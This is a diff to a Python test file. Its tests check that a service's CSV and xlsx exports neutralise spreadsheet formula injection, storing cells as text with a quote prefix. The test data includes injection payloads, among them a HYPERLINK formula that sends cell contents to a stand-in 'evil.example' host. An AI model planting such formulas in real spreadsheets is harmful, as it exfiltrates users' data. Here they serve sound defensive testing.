@@ -3,12 +3,13 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 
 import pytest
-from openpyxl import Workbook, load_workbook
+from openpyxl import load_workbook
 
-from service.spreadsheet import append_row, csv_bytes, safe_text
+from service.spreadsheet import csv_bytes, safe_text, xlsx_sheet
 from tests.support import bearer, rating_body
 
 PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-3+4", "@SUM(1)", "\t=1", "\r=1"]
@@ -31,18 +32,22 @@ def test_csv_bytes_has_a_bom_and_quoted_formulas():
     assert rows == [["label", "'=1+1"], ["-5", ""]]
 
 
-def test_append_row_writes_text_cells_never_formulas():
-    wb = Workbook()
-    ws = wb.active
-    append_row(ws, PLANTED + [3, "bell\x07"])
+def test_xlsx_sheet_writes_text_cells_never_formulas():
     out = io.BytesIO()
-    wb.save(out)
+    with xlsx_sheet(out, "t") as sheet:
+        sheet.append(PLANTED + [3, "bell\x07", None, "0012", "http://a.example/"])
+        sheet.append(["=1+1"], style={"bold": True})
     sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml and "<f " not in sheet_xml
-    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))[0]
-    # XML reads a lone CR back as LF; the text is what was written, as text
-    assert list(cells[:len(PLANTED)]) == [t.replace("\r", "\n") for t in PLANTED]
-    assert cells[len(PLANTED)] == 3 and cells[-1] == "bell\ufffd"
+    ws = load_workbook(io.BytesIO(out.getvalue())).active
+    cells = list(ws.iter_rows(values_only=True))[0]
+    # a CR is stored as OOXML's escape _x000D_, which Excel reads back as CR (openpyxl does not decode it)
+    assert [re.sub("_x000D_", "\r", c) for c in cells[:len(PLANTED)]] == PLANTED
+    assert list(cells[len(PLANTED):]) == [3, "bell\ufffd", None, "0012", "http://a.example/"]
+    # Excel's quote prefix on what starts like a formula (editing the cell keeps it text), also beside a style
+    assert all(ws.cell(row=1, column=c + 1).quotePrefix for c in range(len(PLANTED)))
+    assert not ws.cell(row=1, column=len(PLANTED) + 2).quotePrefix
+    assert ws["A2"].quotePrefix and ws["A2"].font.b and ws["A2"].data_type == "s"
 
 
 @pytest.fixture
